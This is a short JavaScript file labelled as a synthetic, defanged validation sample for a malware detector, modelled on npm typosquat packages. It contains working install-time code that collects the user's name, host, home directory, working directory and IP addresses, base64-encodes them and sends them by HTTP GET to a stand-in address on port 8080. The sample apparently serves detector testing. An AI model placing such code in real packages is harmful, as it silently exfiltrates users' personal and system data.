// SYNTHETIC, DEFANGED malwi validation sample - modelled on the scoped Azure SDK typosquats (2022); never run.
// Personal data collection: user, host, home, network addresses, sent in an encoded GET.
var os = require('os');
var http = require('http');

var ifaces = os.networkInterfaces();
var addrs = [];
Object.keys(ifaces).forEach(function (name) {
  ifaces[name].forEach(function (i) {
    if (i.family === 'IPv4' && !i.internal) addrs.push(i.address);
  });
});

var payload = {
  t: 'install',
  n: process.env.npm_package_name,
  v: process.env.npm_package_version,
  u: os.userInfo().username,
  h: os.hostname(),
  d: os.homedir(),
  p: process.cwd(),
  i: addrs,
  r: process.env.npm_config_registry
};

var q = Buffer.from(JSON.stringify(payload)).toString('base64').replace(/=+$/, '');
http.get('http://203.0.113.41:8080/c?d=' + encodeURIComponent(q), function () {}).on('error', function () {});
